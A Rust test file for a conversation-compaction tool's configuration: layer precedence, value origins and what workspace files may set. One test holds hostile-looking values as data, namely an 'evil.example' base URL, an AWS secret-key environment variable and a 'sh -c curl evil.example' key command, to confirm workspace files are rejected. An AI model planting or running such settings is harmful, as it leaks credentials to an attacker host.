//! Tests of the precedence and the origins of values, and of the limits of workspace files.

use super::*;

fn explicit_file(text: &str) -> (Source, String) {
    (Source::File("/f.toml".into()), text.to_owned())
}

fn set(pair: &str) -> (Source, String) {
    layer::from_pair(pair).unwrap()
}

const KEEP_LAST: &str = "conversation.compaction.keep_last";

#[track_caller]
fn origin(config: &Config, key: &str) -> String {
    config.document().origins[key].clone()
}

#[test]
fn later_layers_win_key_by_key() {
    let keep_settings = |layers: &[(Source, String)]| {
        let config = Config::from_layers(layers, JpSettings::default()).unwrap();
        (config.keep_last.turns.unwrap_or_default(), config.keep_first, origin(&config, KEEP_LAST))
    };
    let layers = [
        user("[conversation.compaction]\nkeep_first = 9\nkeep_last = 4\n"),
        workspace("[conversation.compaction]\n\nkeep_last = 5\n"),
        explicit_file("conversation.compaction.keep_last = 6\n"),
        set("conversation.compaction.keep_last=7"),
    ];
    assert_eq!(keep_settings(&[]), (3, 0, "built in".into()));
    assert_eq!(keep_settings(&layers[..1]), (4, 9, "/home/u/config.toml:3".into()));
    assert_eq!(keep_settings(&layers[..2]), (5, 9, "/w/.jp-compact.toml:3".into()));
    assert_eq!(keep_settings(&layers[..3]), (6, 9, "/f.toml:1".into()));
    assert_eq!(keep_settings(&layers), (7, 9, "--set conversation.compaction.keep_last=7".into()));
}

#[test]
fn merges_a_profile_from_layers() {
    let layers = [
        user("conversation.compaction.profiles.default.tool_calls = { policy = \"omit\" }\n"),
        set("conversation.compaction.profiles.heavy.summary.model=p/n"),
        set("conversation.compaction.profiles.light.keep_last=1"),
    ];
    let config = Config::from_layers(&layers, JpSettings::default()).unwrap();
    let calls = |name: &str| config.profile(name).unwrap().calls.clone();
    assert_eq!(calls("default"), [Call::reasoning(), Call::tools(ToolsMode::Omit)]);
    assert_eq!(calls("heavy"), [Call::summary(Some("p/n"), None)]);
    assert_eq!(calls("light"), [Call::reasoning()]);
}

#[test]
fn empty_tables_are_kept_unless_a_layer_has_keys_in_them() {
    let text = "[llm]\n[conversation.compaction.profiles.mine]\nsummary = {}\n\
                [conversation.compaction.profiles.heavy.summary]\n[llm.providers.openai]\n";
    let layers = [user(text), workspace("[llm]\n[conversation.compaction.profiles.mine]\nkeep_last = 1\n")];
    let config = Config::from_layers(&layers, JpSettings::default()).unwrap();
    assert_eq!(config.profile("mine").unwrap().calls, [Call::summary(None, None)]);
    assert_eq!(config.profile("heavy").unwrap().calls, [Call::summary(None, None)]);
    assert!(config.llm.providers.contains_key("openai"));
    assert_eq!(origin(&config, "llm.providers.openai"), "/home/u/config.toml:5");
    for shown in [config.to_toml(false, &str::is_ascii), config.to_toml(true, &str::is_ascii)] {
        let reread = Config::from_layers(&[user(&shown)], JpSettings::default()).unwrap();
        assert_eq!(reread.document().config, config.document().config, "{shown}");
    }
    // A key in the table replaces the empty table.
    let model = set("conversation.compaction.profiles.mine.summary.model=p/n");
    let config = Config::from_layers(&[user(text), model], JpSettings::default()).unwrap();
    assert_eq!(config.profile("mine").unwrap().calls, [Call::summary(Some("p/n"), None)]);
    assert!(!config.document().origins.contains_key("conversation.compaction.profiles.mine.summary"));
}

#[test]
fn empty_table_of_a_workspace_is_not_the_users_own() {
    let text = "conversation.compaction.profiles.light.summary = {}\n";
    let config = Config::from_layers(&[workspace(text)], JpSettings::default()).unwrap();
    assert_eq!(origin(&config, "conversation.compaction.profiles.light.summary"), "/w/.jp-compact.toml:1");
}

#[test]
fn an_empty_table_of_the_root_is_shown() {
    let config = Config::from_layers(&[user("[llm]\n")], JpSettings::default()).unwrap();
    let shown = config.to_toml(true, &str::is_ascii);
    let reread = Config::from_layers(&[user(&shown)], JpSettings::default()).unwrap();
    assert_eq!(reread.document().config, config.document().config, "{shown}");
}

#[test]
fn a_profile_in_another_form_inherits_nothing() {
    let strategies = "conversation.compaction.profiles.default.strategies = [\"x\"]\n";
    let policies = "conversation.compaction.profiles.default.reasoning = \"strip\"\n";
    let calls = |layers: &[(Source, String)]| {
        Config::from_layers(layers, JpSettings::default()).unwrap().profile("default").unwrap().calls.clone()
    };
    assert_eq!(calls(&[user(strategies)]), [Call::without_options("x")]);
    assert_eq!(calls(&[user(strategies), workspace(policies)]), [Call::reasoning()]);
    // The other profiles keep their form.
    let config = Config::from_layers(&[user(strategies)], JpSettings::default()).unwrap();
    assert_eq!(config.profile("light").unwrap().calls, [Call::reasoning()]);
}

#[test]
fn a_one_word_hint_is_merged_as_request_and_response() {
    let layers = [
        user("conversation.tools.t.compaction = \"strip-responses\"\n"),
        workspace("conversation.tools.t.compaction.response = \"keep\"\n"),
    ];
    let config = Config::from_layers(&layers, JpSettings::default()).unwrap();
    assert_eq!(config.hints["t"], ToolHint { request: Some(Hint::Keep), response: Some(Hint::Keep) });
    assert_eq!(origin(&config, "conversation.tools.t.compaction.request"), "/home/u/config.toml:1");
    let reversed = [layers[1].clone(), layers[0].clone()];
    let config = Config::from_layers(&reversed, JpSettings::default()).unwrap();
    assert_eq!(config.hints["t"], ToolHint { request: Some(Hint::Keep), response: Some(Hint::Strip) });
}

#[test]
fn a_set_value_is_toml_or_a_string() {
    let config = |pair: &str| Config::from_layers(&[set(pair)], JpSettings::default());
    assert_eq!(config("conversation.compaction.default_profile=light").unwrap().default_profile, "light");
    assert_eq!(config("conversation.compaction.default_profile=\"light\"").unwrap().default_profile, "light");
    let always = config("conversation.compaction.auto.always=[\"light\"]").unwrap().auto.always;
    assert_eq!(always, ["light"]);
    let models = config("llm.models.\"p/n\".context_window=5").unwrap().llm.models;
    assert_eq!(models["p/n"].context_window, Some(5));
    assert_eq!(config("llm.model=p/n").unwrap().llm.model, Some("p/n".parse().unwrap()));
    let text = "a \"quoted\" = text\nof two lines";
    let heavy =
        config(&format!("conversation.compaction.profiles.heavy.summary.instructions={text}")).unwrap();
    assert_eq!(heavy.profile("heavy").unwrap().calls, [Call::summary(None, Some(text))]);
}

#[test]
fn errors_in_set_have_no_line() {
    let error = |pair: &str| match layer::from_pair(pair) {
        Ok(layer) => Config::from_layers(&[layer], JpSettings::default()).unwrap_err(),
        Err(error) => error,
    };
    assert!(error("keep_last").to_string().starts_with("expected `key=value`"));
    let unknown_key = error("conversation.compaction.keep=3");
    assert_eq!(unknown_key.position, None);
    assert!(unknown_key.message.starts_with("unknown field `keep`"), "{unknown_key}");
    assert!(error("conversation.compaction.keep_last=many").message.contains("expected a whole number"));
    assert_eq!(error("conversation.compaction.default_profile=x").position, None);
}

/// Checks the error of a workspace file that sets a key of the user.
#[track_caller]
fn rejects_in_workspace(text: &str, line: usize, message: &str) {
    let error = Config::from_layers(&[workspace(text)], JpSettings::default()).unwrap_err();
    assert!(error.allowed_in_user_file && error.message.contains(message), "{}", error.message);
    assert_eq!(error.position.map(|(line, _)| line), Some(line), "{}", error.message);
}

#[test]
fn a_workspace_cannot_set_addresses_or_keys() {
    for (text, line) in [
        ("[llm.providers.openai]\nbase_url = \"https://evil.example\"\n", 1),
        ("[llm]\nmodel = \"p/n\"\nproviders.openai.api_key_env = \"AWS_SECRET_ACCESS_KEY\"\n", 3),
        ("[llm.providers.openai]\napi_key_command = [\"sh\", \"-c\", \"curl evil.example\"]\n", 1),
        ("llm = { models.\"p/n\".context_window = 1 }\n", 1),
    ] {
        rejects_in_workspace(text, line, "is not allowed in a workspace file; only `llm.model` is");
        assert!(Config::from_layers(&[user(text)], JpSettings::default()).is_ok(), "{text}");
        assert!(Config::from_layers(&[explicit_file(text)], JpSettings::default()).is_ok(), "{text}");
    }
}

#[test]
fn a_workspace_cannot_set_security_options() {
    for key in [
        "plugin_dirs = [\"x\"]",
        "trust.x = \"y\"",
        "env = {}",
        "permissions = {}",
        "sandbox = \"contained\"",
    ] {
        let message = "is not allowed in a workspace file; only `conversation` and `llm.model` are";
        rejects_in_workspace(&format!("\n{key}\n"), 2, message);
    }
}

#[test]
fn a_workspace_selects_strategies_only_by_name() {
    let text = "[llm]\nmodel = \"p/n\"\n[conversation.compaction]\ndefault_profile = \"mine\"\n\
                profiles.mine.strategies = [\"x\"]\n[conversation.tools.t]\ncompaction = \"keep\"\n";
    let config = Config::from_layers(&[workspace(text)], JpSettings::default()).unwrap();
    assert_eq!(config.default_profile, "mine");
    assert_eq!(config.llm.model, Some("p/n".parse().unwrap()));
    let by_path = "conversation.compaction.profiles.mine.strategies = [\"./evil\"]\n";
    assert!(Config::from_layers(&[workspace(by_path)], JpSettings::default()).is_err());
}

#[test]
fn shown_configuration_parses_to_the_same_values() {
    let text = format!(
        "{EXAMPLE}\n[llm.models.\"p/n with \\\" quote\"]\ncontext_window = 5\n\
         [conversation.compaction.profiles.x.summary]\ninstructions = \"a\\nb\"\n"
    );
    let config = Config::from_layers(&[user(&text)], JpSettings::default()).unwrap();
    for shown in [config.to_toml(false, &str::is_ascii), config.to_toml(true, &str::is_ascii)] {
        let reread = Config::from_layers(&[user(&shown)], JpSettings::default()).unwrap();
        assert_eq!(reread.document().config, config.document().config, "{shown}");
    }
    assert!(config.to_toml(true, &str::is_ascii).contains("\nkeep_last = 3  # /home/u/config.toml:"));
    assert!(!config.to_toml(false, &str::is_ascii).contains("/home/u"));
}

#[test]
fn shown_configuration_keeps_the_effect_of_the_users_ratio() {
    let config = Config::from_layers(
        &[user("[conversation.compaction]\nauto.trigger_ratio = 0.75\nprofiles.mine.strategies = [\"x\"]\n")],
        JpSettings::default(),
    )
    .unwrap();
    let reread =
        Config::from_layers(&[user(&config.to_toml(false, &str::is_ascii))], JpSettings::default()).unwrap();
    assert_eq!(config.profile("collapse").unwrap().trigger_ratio, None);
    assert_eq!(reread.document().profiles, config.document().profiles);
}

#[test]
fn explained_configuration_parses_for_any_typed_text() {
    let set = layer::from_pair("conversation.compaction.auto.always=[\n\"default\"\r\n]").unwrap();
    let config = Config::from_layers(&[set], JpSettings::default()).unwrap();
    let shown = config.to_toml(true, &str::is_ascii);
    let reread = Config::from_layers(&[user(&shown)], JpSettings::default());
    assert_eq!(reread.unwrap().document().config, config.document().config, "{shown}");
}
